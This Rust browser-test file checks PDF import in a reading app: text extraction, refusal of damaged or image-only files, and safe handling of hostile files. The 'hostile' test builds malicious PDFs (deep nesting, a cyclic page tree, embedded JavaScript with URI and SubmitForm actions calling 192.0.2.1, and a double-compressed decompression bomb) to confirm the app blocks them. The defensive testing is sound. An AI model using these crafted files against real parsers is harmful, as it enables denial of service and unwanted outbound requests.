//! PDF files in the library: read by a program of its own, which is fetched for the first of them and not before.

use std::io::Write as _;
use std::path::PathBuf;

use anyhow::Result;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::ZlibEncoder;
use serde_json::json;

use super::{NEWS, back, open, open_file, paste, read};
use crate::page::Page;

/// A page in two columns, as a browser printed it.
const FERRY: &[u8] = include_bytes!("ferry.pdf");
/// A page that holds one picture.
const SCAN: &str = "%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >> endobj
4 0 obj << /Length 30 >>
stream
q 595 0 0 842 0 0 cm /I Do Q  
endstream endobj
5 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 1 >>
stream
0
endstream endobj
trailer << /Root 1 0 R >>
";
/// What the page has fetched of the reader of PDF files.
const FETCHED: &str = "performance.getEntriesByType('resource').map((entry) => new URL(entry.name).pathname.split('/').pop()).filter((name) => /^pdf/.test(name))";
const MESSAGE: &str = "document.querySelector('.bring-message').textContent";

/// The file of that page.
pub(super) fn ferry() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/browser/cases/library/ferry.pdf")
}

/// Drops a file of these bytes.
fn drop_bytes(page: &Page, name: &str, bytes: &[u8]) -> Result<()> {
    page.run(&format!(
        "const bytes = Uint8Array.from(atob({}), (letter) => letter.charCodeAt(0));
         const data = new DataTransfer();
         data.items.add(new File([bytes], {}));
         const event = new DragEvent('drop', {{bubbles: true, cancelable: true}});
         Object.defineProperty(event, 'dataTransfer', {{value: data}});
         document.body.dispatchEvent(event);",
        json!(STANDARD.encode(bytes)),
        json!(name)
    ))
    .map(drop)
}

pub(super) fn marked(page: &Page) -> Result<()> {
    open(page)?;
    paste(page, "text/plain", NEWS)?;
    read(page)?;
    page.expect("what is fetched before a PDF comes", FETCHED, &json!([]))?;
    back(page)?;
    open_file(page, &ferry())?;
    read(page)?;
    page.expect(
        "its title",
        "document.querySelector('#article h1').textContent",
        &json!("The ferry is late again"),
    )?;
    page.expect(
        "its author",
        "document.querySelector('.standfirst').textContent.startsWith('By Aigul Serikova.')",
        &json!(true),
    )?;
    page.expect(
        "its headings",
        "[...document.querySelectorAll('.part h2')].map((heading) => heading.textContent)",
        &json!(["What the council wants", "What the islanders do"]),
    )?;
    // Browsers draw the items’ bullets as shapes, so that items are paragraphs here.
    page.expect(
        "its items",
        "[...document.querySelectorAll('.part > p')].map((p) => p.textContent).filter((text) => /boat leaves/.test(text))",
        &json!(["The morning boat leaves at seven.", "The noon boat leaves when it is full."]),
    )?;
    page.expect("a paragraph over two columns", "[...document.querySelectorAll('.part > p')].some((p) => p.textContent === 'Some have bought boats of their own. Others have moved to the mainland, where the school is open in winter and the baker bakes every day. The council has no figures on either of them, its spokesman said, and it does not intend to collect any.')", &json!(true))?;
    page.expect(
        "its link",
        "[...document.querySelectorAll('.out')].map((a) => a.href)",
        &json!(["https://example.org/timetable"]),
    )?;
    page.expect(
        "a mark",
        "document.querySelector('.mention[data-card=vladimir-putin]')?.textContent",
        &json!("Vladimir Putin"),
    )?;
    page.expect(
        "stances",
        "document.querySelectorAll('.sentence').length > 12",
        &json!(true),
    )?;
    page.until("the reader was fetched", &format!("{FETCHED}.length > 0"))
}

pub(super) fn refused(page: &Page) -> Result<()> {
    open(page)?;
    for (name, bytes, reason) in [
        (
            "cut.pdf",
            &FERRY[..FERRY.len() / 20],
            "/“cut.pdf” cannot be read: it is damaged or cut short.*untouched/",
        ),
        (
            "letter.pdf",
            b"Dear Sir, this is no PDF.".as_slice(),
            "/“letter.pdf” cannot be read: it is no PDF file/",
        ),
        (
            "scan.pdf",
            SCAN.as_bytes(),
            "/“scan.pdf” cannot be read: its pages are pictures.*text recognition/",
        ),
    ] {
        drop_bytes(page, name, bytes)?;
        page.until(name, &format!("{reason}.test({MESSAGE})"))?;
    }
    page.expect(
        "what is kept",
        "document.querySelectorAll('.shelf-entry').length",
        &json!(0),
    )?;
    // A reader that is not there is no end of the page.
    page.run("window.Worker = class extends Worker { constructor(address, options) { super(/pdf/.test(address) ? 'nowhere.js' : address, options) } }")?;
    drop_bytes(page, "ferry.pdf", FERRY)?;
    page.until("a reason", &format!("/“ferry.pdf” cannot be read: the reader of PDF files could not be started/.test({MESSAGE})"))?;
    paste(page, "text/plain", NEWS)?;
    read(page)
}

/// Files that are made to harm: each is refused with a reason, asks no other host for anything, and the next file is read.
pub(super) fn hostile(page: &Page) -> Result<()> {
    open(page)?;
    page.run("window.faults = []; for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => faults.push(name); addEventListener('securitypolicyviolation', (event) => faults.push(event.blockedURI)); addEventListener('error', (event) => /^ResizeObserver loop/.test(event.message) || faults.push(event.message));")?;
    let raw = |body: &str| format!("%PDF-1.7\n{body}").into_bytes();
    let nested = format!(
        "1 0 obj {} endobj trailer << /Root 1 0 R >>",
        "[".repeat(200_000)
    );
    let ring = "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [3 0 R] >> endobj 3 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] >> endobj trailer << /Root 1 0 R >>";
    let acts = "1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /URI /URI (http://192.0.2.1/) >> >> /AA << /WC << /S /SubmitForm /F (http://192.0.2.1/) >> >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj
4 0 obj << /F << /FS /URL /F (http://192.0.2.1/stream) >> /Length 0 >>
stream

endstream endobj
trailer << /Root 1 0 R >>";
    for (name, bytes) in [
        ("nested.pdf", raw(&nested)),
        ("ring.pdf", raw(ring)),
        ("acts.pdf", raw(acts)),
        ("bomb.pdf", bomb()?),
    ] {
        drop_bytes(page, name, &bytes)?;
        page.until(
            name,
            &format!("/“{name}” (cannot be read|holds)|There is no text to read in “{name}”/.test({MESSAGE})"),
        )?;
    }
    page.expect("what was executed, asked for or broken", "[faults, performance.getEntriesByType('resource').map((entry) => entry.name).filter((name) => new URL(name).origin !== location.origin)]", &json!([[], []]))?;
    drop_bytes(page, "ferry.pdf", FERRY)?;
    read(page)?;
    page.expect(
        "the next file is read",
        "document.querySelector('#article h1').textContent",
        &json!("The ferry is late again"),
    )
}

/// A page of half a gigabyte of spaces, packed twice into a few hundred bytes.
fn bomb() -> Result<Vec<u8>> {
    let mut packed = ZlibEncoder::new(
        ZlibEncoder::new(Vec::new(), Compression::best()),
        Compression::fast(),
    );
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..512 {
        packed.write_all(&spaces)?;
    }
    let content = packed.finish()?.finish()?;
    let mut file = format!(
        "%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj
4 0 obj << /Filter [/FlateDecode /FlateDecode] /Length {} >>
stream
",
        content.len()
    )
    .into_bytes();
    file.extend(content);
    file.extend(b"\nendstream endobj\ntrailer << /Root 1 0 R >>\n");
    Ok(file)
}
